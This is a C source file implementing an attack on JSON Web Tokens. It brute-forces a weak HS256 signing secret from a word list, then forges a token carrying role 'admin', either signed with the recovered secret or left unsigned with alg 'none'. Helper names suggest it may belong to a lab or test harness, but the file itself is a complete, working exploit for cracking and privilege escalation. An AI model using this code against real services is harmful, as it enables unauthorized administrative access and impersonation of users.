/*  jwt_crack.c: the word-list attack on a weak HS256 secret and the admin token it forges (see
    jwt_crack.h). The signing goes through web_jwt_issue (libjwt); only the cracking loop
    computes HMACs itself (libsodium), since decoding the token once per word through libjwt
    would parse its JSON a hundred thousand times. */
#include "jwt_crack.h"
#include "jwt_check.h"

#include <cJSON.h>
#include <jwt.h>
#include <sodium.h>
#include <stdlib.h>
#include <string.h>

#define FORGE_TTL_S 3600
#define SIG_LEN     crypto_auth_hmacsha256_BYTES
#define B64URL      sodium_base64_VARIANT_URLSAFE_NO_PADDING

/*  The token's signed part's length (up to the second dot) and its signature's bytes. */
static int parse_target(const char *token, size_t *signed_len, uint8_t sig[SIG_LEN])
{
    size_t len = token ? strnlen(token, WEB_JWT_TOKEN_MAX + 1) : 0;
    if (len == 0 || len > WEB_JWT_TOKEN_MAX)
        return WEB_JWT_E_MALFORMED;
    const char *dot1 = memchr(token, '.', len);
    const char *dot2 = dot1 ? memchr(dot1 + 1, '.', len - (size_t)(dot1 + 1 - token)) : NULL;
    if (!dot2 || dot1 == token)
        return WEB_JWT_E_MALFORMED;
    /* the header must say HS256: a token we cannot crack is not worth a word list */
    uint8_t head[WEB_JWT_TOKEN_MAX];
    size_t n = 0;
    if (sodium_base642bin(head, sizeof head, token, (size_t)(dot1 - token), NULL, &n, NULL,
                          B64URL) != 0)
        return WEB_JWT_E_MALFORMED;
    cJSON *h = cJSON_ParseWithLength((const char *)head, n);
    const char *alg = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(h, "alg"));
    bool hs256 = alg && strcmp(alg, "HS256") == 0;
    cJSON_Delete(h);
    if (!hs256)
        return WEB_JWT_E_BAD_ALG;
    const char *s = dot2 + 1;
    if (sodium_base642bin(sig, SIG_LEN, s, len - (size_t)(s - token), NULL, &n, NULL, B64URL) !=
            0 ||
        n != SIG_LEN)
        return WEB_JWT_E_MALFORMED;
    *signed_len = (size_t)(dot2 - token);
    return 0;
}

static bool word_signs(const char *token, size_t signed_len, const uint8_t sig[SIG_LEN],
                       const char *word, size_t wlen)
{
    uint8_t mac[SIG_LEN];
    crypto_auth_hmacsha256_state st;
    crypto_auth_hmacsha256_init(&st, (const uint8_t *)word, wlen);
    crypto_auth_hmacsha256_update(&st, (const uint8_t *)token, signed_len);
    crypto_auth_hmacsha256_final(&st, mac);
    return sodium_memcmp(mac, sig, SIG_LEN) == 0;
}

int web_jwt_crack(const char *token, const char *words, size_t words_len, char *secret,
                  size_t secret_cap, size_t *tried)
{
    uint8_t sig[SIG_LEN];
    size_t signed_len = 0, count = 0;
    if (tried)
        *tried = 0;
    if (!secret || secret_cap <= WEB_JWT_SECRET_MAX)
        return WEB_JWT_E_TOO_LONG;
    memset(secret, 0, secret_cap);
    if (!words)
        return WEB_JWT_E_MALFORMED;
    int rc = parse_target(token, &signed_len, sig);
    if (rc)
        return rc;
    rc = WEB_JWT_E_NOT_CRACKED;
    const char *p = words, *end = words + words_len;
    while (p < end && count < WEB_JWT_CRACK_MAX_WORDS) {
        const char *nl = memchr(p, '\n', (size_t)(end - p));
        size_t wlen = nl ? (size_t)(nl - p) : (size_t)(end - p);
        if (wlen > 0 && p[wlen - 1] == '\r')
            wlen--;
        if (wlen > 0 && wlen <= WEB_JWT_SECRET_MAX) {
            count++;
            if (word_signs(token, signed_len, sig, p, wlen)) {
                memcpy(secret, p, wlen);
                rc = 0;
                break;
            }
        }
        p = nl ? nl + 1 : end;
    }
    if (tried)
        *tried = count;
    return rc;
}

/*  {"alg":"none"}: the unsigned token, built by libjwt as any other. */
static int forge_unsigned(const char *sub, int64_t now, char *out, size_t out_len)
{
    jwt_t *jwt = NULL;
    if (jwt_new(&jwt) != 0)
        return WEB_JWT_E_NOMEM;
    int rc = WEB_JWT_E_NOMEM;
    char *s = NULL;
    if (jwt_add_grant(jwt, "sub", sub) == 0 && jwt_add_grant(jwt, "role", "admin") == 0 &&
        jwt_add_grant_int(jwt, "iat", (long)now) == 0 &&
        jwt_add_grant_int(jwt, "exp", (long)(now + FORGE_TTL_S)) == 0 &&
        jwt_set_alg(jwt, JWT_ALG_NONE, NULL, 0) == 0)
        s = jwt_encode_str(jwt);
    if (s) {
        size_t n = strlen(s);
        rc = n < out_len ? 0 : WEB_JWT_E_TOO_LONG;
        if (rc == 0)
            memcpy(out, s, n + 1);
        free(s);
    }
    jwt_free(jwt);
    return rc;
}

int web_jwt_forge(const char *secret, const char *sub, int64_t now, char *out, size_t out_len)
{
    if (out && out_len)
        out[0] = '\0';
    if (!web_jwt_agent_id_ok(sub))
        return WEB_JWT_E_NO_SUB;
    if (!out || out_len == 0)
        return WEB_JWT_E_TOO_LONG;
    if (!secret)
        return forge_unsigned(sub, now, out, out_len);
    web_jwt_key_t key;
    if (web_jwt_key_weak(&key, secret) != 0)
        return WEB_JWT_E_KEY;
    int rc = web_jwt_issue(&key, sub, "admin", now, FORGE_TTL_S, out, out_len);
    web_jwt_key_clear(&key);
    return rc;
}
